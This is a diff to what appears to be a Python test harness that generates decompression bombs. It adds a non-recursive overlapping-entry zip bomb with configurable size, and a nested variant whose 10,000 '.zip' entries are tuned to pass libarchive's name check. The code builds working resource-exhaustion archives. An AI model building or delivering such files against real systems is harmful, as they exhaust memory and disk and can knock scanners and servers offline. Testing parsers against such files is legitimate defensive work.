@@ -331,29 +331,34 @@ def zip_entries(scale=1.0):
     return _attach("zip entries", "many.zip", buf.getvalue())
 
 
-def zip_overlap(scale=1.0):
-    """a non-recursive zip bomb: 20,000 central-directory entries that all
-    point at the same deflated 100 MB of zeros"""
+def zip_overlap(scale=1.0, size=100 << 20, ext=""):
+    """a non-recursive zip bomb: 20,000 central-directory entries (one name)
+    that all point at the same deflated 100 MB of zeros"""
     n = _n(20000, scale, lo=2)
-    size = 100 << 20
     comp = zlib.compressobj(9, zlib.DEFLATED, -15)
     kernel = b"".join(comp.compress(bytes(1 << 20)) for _ in range(size >> 20)) + comp.flush()
     crc = 0
     for _ in range(size >> 20):
         crc = zlib.crc32(bytes(1 << 20), crc)
     import struct
-    name = b"k"
+    name = b"k" + ext.encode()    # libarchive wants the local name to match
     local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 0, crc, len(kernel), size,
                         len(name), 0) + name + kernel
     cd = []
     for i in range(n):
-        nm = b"f%d" % i
+        nm = name
         cd.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8, 0, 0, crc, len(kernel),
                               size, len(nm), 0, 0, 0, 0, 0, 0) + nm)
     cdb = b"".join(cd)
     eocd = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, min(n, 0xffff), min(n, 0xffff), len(cdb),
                        len(local), 0)
     return _attach("overlap zip", "overlap.zip", local + cdb + eocd)
+
+
+def zip_overlap_nested(scale=1.0):
+    """the same with 10,000 entries named .zip of 20 MB each: every one is
+    a nested archive small enough to be unpacked and looked into"""
+    return zip_overlap(scale / 2, size=20 << 20, ext=".zip")
 
 
 def targz_zeros(scale=1.0):
@@ -421,6 +426,7 @@ BOMBS = {
     "zip_nested": zip_nested,
     "zip_entries": zip_entries,
     "zip_overlap": zip_overlap,
+    "zip_overlap_nested": zip_overlap_nested,
     "targz_zeros": targz_zeros,
     "gz_zeros": gz_zeros,
     "tar_entries": tar_entries,
